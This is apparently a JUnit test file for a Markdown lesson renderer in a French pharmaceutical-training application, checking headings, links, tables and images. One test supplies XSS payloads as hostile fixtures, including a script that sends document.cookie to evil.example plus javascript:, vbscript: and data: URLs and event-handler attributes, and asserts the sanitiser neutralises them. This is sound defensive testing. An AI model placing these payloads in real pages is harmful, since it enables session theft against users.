package fr.guichetbio.training.course;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class LessonRendererTest {

    @Test
    void rendersTheMarkdownALessonUses() {
        String html = LessonRenderer.render("""
                # Zones classées

                Le remplissage aseptique se fait en **classe A** sur fond de *classe B*.

                1. Se laver les mains
                2. Passer le sas

                - `ISO 14644-1`
                > Annexe 1, § 4.

                [EudraLex volume 4](https://health.ec.europa.eu/medicinal-products/eudralex/eudralex-volume-4_en)

                ![Schéma](images/zones.png)

                | Classe | Au repos |
                |---|--:|
                | B | 3 520 |
                """);

        assertThat(html)
                .contains("<h2>Zones classées</h2>")
                .contains("<strong>classe A</strong>", "<em>classe B</em>")
                .contains("<ol>", "<li>Se laver les mains</li>")
                .contains("<code>ISO 14644-1</code>", "<blockquote>")
                .contains("href=\"https://health.ec.europa.eu/medicinal-products/eudralex/eudralex-volume-4_en\"")
                .contains("src=\"images/zones.png\"", "alt=\"Schéma\"")
                .contains("<table>", "<th>Classe</th>", "<td align=\"right\">3 520</td>")
                .doesNotContain("<h1");
        // The sanitiser writes the two rels in no fixed order.
        assertThat(html)
                .containsPattern("<a href=\"https://[^\"]+\" rel=\"(noopener noreferrer|noreferrer noopener)\">");
    }

    @Test
    void rendersAHostileLessonInert() {
        String html = LessonRenderer.render("""
                # Leçon <script>alert(1)</script>

                <script>fetch('https://evil.example/?c=' + document.cookie)</script>

                <img src="x" onerror="alert(2)">

                <div onclick="alert(3)" style="position:fixed">raw HTML</div>

                <iframe src="https://evil.example"></iframe>

                [cliquez](javascript:alert(4)) [encore](JaVaScRiPt:alert(5)) [data](data:text/html;base64,PHNjcmlwdD4=)

                [vb](vbscript:msgbox(6)) <a href="javascript:alert(7)">lien</a>

                ![x](javascript:alert(8)) ![y](data:image/svg+xml;base64,PHN2Zz4=) ![z](//evil.example/a.png)

                ![w](http://evil.example/track.png)

                <style>body { display: none }</style>
                """);

        String lower = html.toLowerCase();
        assertThat(lower)
                .doesNotContain("<script", "<iframe", "<div", "<style", "<a href=\"javascript")
                .doesNotContain(" onerror=", " onclick=", " style=")
                .doesNotContain("href=\"javascript:", "href=\"vbscript:", "href=\"data:", "src=\"data:")
                .doesNotContain("src=\"javascript:", "src=\"//evil", "src=\"http://evil", "<img src=\"x\"");
        // Raw HTML stays visible as text, so the author sees what was refused.
        assertThat(html).contains("&lt;script&gt;").contains("cliquez");
    }

    @Test
    void theCoursesFilesAreResolvedAndImagesFromElsewhereDropped() {
        String html = LessonRenderer.render("""
                ![Les zones](Zones.png) [La fiche](fiche.pdf) [EU GMP](https://health.ec.europa.eu/)

                ![pisteur](https://tracker.example/pixel.png) ![plus haut](../secret.png)
                """, "/formation/cours/bpf/fichiers/");

        assertThat(html)
                .contains("<img src=\"/formation/cours/bpf/fichiers/zones.png\" alt=\"Les zones\"")
                .contains("href=\"/formation/cours/bpf/fichiers/fiche.pdf\"")
                .contains("href=\"https://health.ec.europa.eu/\"")
                .doesNotContain("tracker.example", "secret.png");
    }

    @Test
    void anEmptyLessonRendersNothing() {
        assertThat(LessonRenderer.render("")).isEmpty();
        assertThat(LessonRenderer.render(null)).isEmpty();
    }
}
